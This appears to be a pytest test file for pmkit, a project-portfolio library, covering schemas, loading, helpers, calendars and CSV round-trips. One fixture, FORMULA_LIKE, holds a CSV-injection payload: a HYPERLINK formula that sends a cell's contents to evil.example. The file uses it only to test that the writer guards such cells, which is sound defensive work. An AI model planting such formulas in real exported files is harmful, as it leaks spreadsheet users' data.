"""The model: typed tables, the Portfolio helpers, the loader and the writer."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pandera.pandas as pa
import pytest
from _portfolio_factory import valid_tables, write_tables, write_valid

from pmkit.cache import load_sample
from pmkit.errors import PortfolioValidationError
from pmkit.io.csv_folder import (
    load_portfolio,
    sample_data_path,
    validate_portfolio,
    write_portfolio,
)
from pmkit.model import SCHEMAS, TABLES, Portfolio, empty_table


@pytest.fixture
def pf(tmp_path: Path) -> Portfolio:
    return load_portfolio(write_valid(tmp_path / "pf"))


def test_every_table_has_a_pandera_schema_and_attribute(pf: Portfolio) -> None:
    attrs = {
        "projects",
        "tasks",
        "links",
        "resources",
        "assignments",
        "calendars",
        "holidays",
        "risks",
        "changes",
        "snapshots",
        "milestone_forecasts",
        "gates",
        "project_scores",
    }
    assert {t.attr for t in TABLES.values()} == attrs
    for name, spec in TABLES.items():
        df = getattr(pf, spec.attr)
        assert list(df.columns) == spec.columns
        assert isinstance(SCHEMAS[name], pa.DataFrameSchema)
        SCHEMAS[name].validate(df)  # the loaded tables satisfy their contract
        SCHEMAS[name].validate(empty_table(name))


def test_types_after_load(pf: Portfolio) -> None:
    t = pf.tasks
    assert t["baseline_start"].dtype == "datetime64[ns]"
    assert t["is_summary"].dtype == bool and t["outline_level"].dtype == "int64"
    assert t["duration_days"].dtype == "float64"
    assert t.loc[t["task_id"] == "P01-T02", "actual_finish"].iloc[0] == pd.Timestamp("2025-01-10")
    assert pd.isna(t.loc[t["task_id"] == "P01-T03", "actual_finish"].iloc[0])
    assert t.loc[t["task_id"] == "P01-T03", "name"].iloc[0] == 'Architecture <b>bold</b>, "quoted"'
    assert t["calendar_id"].tolist().count("") == 9  # empty string, not NaN
    assert pf.links["lag_days"].tolist() == [0, 0, 2, 0, 0, -1, 0]
    assert pf.projects["score_value"].tolist() == [4, 3]
    assert isinstance(pf.tasks.index, pd.RangeIndex)
    assert pf.source is not None and pf.source.name == "pf"


def test_helpers(pf: Portfolio) -> None:
    assert pf.project_ids == ["P01", "P02"]
    assert pf.status_date == pd.Timestamp("2025-05-01")
    assert pf.currency == "EUR"
    cross = pf.cross_project_links()
    assert cross[["pred_id", "succ_id", "pred_project", "succ_project"]].values.tolist() == [
        ["P01-T04", "P02-T02", "P01", "P02"]
    ]
    p2 = pf.project("P02")
    assert p2.name == "Pilot plant" and p2.calendar_id == "SIX"
    assert len(p2.tasks) == 5 and set(p2.tasks["project_id"]) == {"P02"}
    assert len(p2.links) == 3 and p2.external_links["pred_id"].tolist() == ["P01-T04"]
    assert p2.risks["risk_id"].tolist() == ["K02"] and len(p2.snapshots) == 1
    assert p2.assignments["task_id"].tolist() == ["P02-T02", "P02-T03"]
    with pytest.raises(KeyError):
        pf.project("P99")


def test_status_date_falls_back_to_latest_snapshot(tmp_path: Path) -> None:
    pf = load_portfolio(write_tables(tmp_path / "pf", valid_tables(), standards="currency: EUR\n"))
    assert pf.status_date == pd.Timestamp("2025-04-30")


def test_calendar_from_tables(pf: Portfolio) -> None:
    cal = pf.calendar("STD")
    assert cal.hours_per_day == pytest.approx(8.0)
    assert pf.calendar("SIX").hours_per_day == pytest.approx(6.0)
    # New Year is a holiday of STD: 2025-01-01 does not work, 2025-01-02 does
    assert not bool(cal.is_working([pd.Timestamp("2025-01-01 10:00")])[0])
    assert bool(cal.is_working([pd.Timestamp("2025-01-02 10:00")])[0])
    with pytest.raises(KeyError):
        pf.calendar("NOPE")


def test_bad_portfolio_never_half_loads(tmp_path: Path) -> None:
    t = valid_tables()
    t["links"][0]["succ_id"] = "P09-T09"
    folder = write_tables(tmp_path / "pf", t)
    result = None
    with pytest.raises(PortfolioValidationError) as exc:
        result = load_portfolio(folder)
    assert result is None
    assert exc.value.file == "links.csv" and exc.value.line == 2 and exc.value.field == "succ_id"
    assert "links.csv:2, field 'succ_id'" in str(exc.value)


def test_write_then_load_round_trips(pf: Portfolio, tmp_path: Path) -> None:
    out = write_portfolio(pf, tmp_path / "copy")
    assert validate_portfolio(out).issues == []
    again = load_portfolio(out)
    for spec in TABLES.values():
        pd.testing.assert_frame_equal(getattr(again, spec.attr), getattr(pf, spec.attr))
    assert again.standards["currency"] == "EUR"
    assert again.status_date == pf.status_date


FORMULA_LIKE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(1)",
    "'=already guarded by hand",
    "''",
    "'plain quote",
    "- a dash list item",
]


def test_csv_cells_a_spreadsheet_would_run_are_guarded_and_read_back(
    pf: Portfolio, tmp_path: Path
) -> None:
    """OWASP's CSV injection: ``write_portfolio`` (the importer's download, ``pmkit import``)
    wrote a name ``=HYPERLINK(...)`` as is, which Excel runs when the CSV is opened. Text cells
    get a guard apostrophe; numbers (a negative lag) do not; the load gives back the same."""
    for i, text in enumerate(FORMULA_LIKE):
        pf.tasks.loc[i, "name"] = text
        pf.projects.loc[i % len(pf.projects), "sponsor"] = text
    pf.links.loc[0, "lag_days"] = -2.0
    out = write_portfolio(pf, tmp_path / "copy")
    for spec in TABLES.values():
        with open(out / spec.file, encoding="utf-8", newline="") as fh:
            rows = list(csv.reader(fh))
        kinds = {f.name: f.kind for f in spec.fields}
        for row in rows[1:]:
            for col, cell in zip(rows[0], row, strict=True):
                if kinds.get(col, "str") == "str":
                    assert not cell[:1] or cell[0] not in "=+-@\t\r", (spec.file, col, cell)
    lag = next(csv.DictReader((out / "links.csv").open(encoding="utf-8")))["lag_days"]
    assert lag == "-2"
    again = load_portfolio(out)
    for spec in TABLES.values():
        pd.testing.assert_frame_equal(getattr(again, spec.attr), getattr(pf, spec.attr))
    assert again.tasks["name"].iloc[: len(FORMULA_LIKE)].tolist() == FORMULA_LIKE


def test_sample_data_path_env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("PMKIT_DATA", str(tmp_path))
    assert sample_data_path() == tmp_path.resolve()
    monkeypatch.delenv("PMKIT_DATA")
    assert sample_data_path() == Path(__file__).resolve().parents[2] / "data"


def test_load_sample_is_cached(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("PMKIT_DATA", str(write_valid(tmp_path / "pf")))
    assert load_sample() is load_sample()


REPO_DATA = Path(__file__).resolve().parents[2] / "data"


def test_repo_sample_validates_without_errors() -> None:
    report = validate_portfolio(REPO_DATA)
    assert report.ok, str(report)[:3000]


def test_as_planned_drops_the_status_date_rule_but_keeps_progress() -> None:
    from pmkit.schedule.portfolio_adapter import schedule_project

    p = load_sample()
    planned = p.as_planned()
    assert p.status_date is not None and planned.status_date is None
    pd.testing.assert_frame_equal(planned.tasks, p.tasks)  # progress as recorded
    at_status = schedule_project(p, "P01").tasks.set_index("uid")
    as_planned = schedule_project(planned, "P01").tasks.set_index("uid")
    open_tasks = p.tasks[(p.tasks["project_id"] == "P01") & p.tasks["actual_start"].isna()]
    ids = list(open_tasks[~open_tasks["is_summary"]]["task_id"])
    assert ids
    # at the status date nothing unstarted starts before it; as planned, it may
    assert (at_status.loc[ids, "early_start"] > p.status_date).all()
    assert (as_planned.loc[ids, "early_start"] <= at_status.loc[ids, "early_start"]).all()
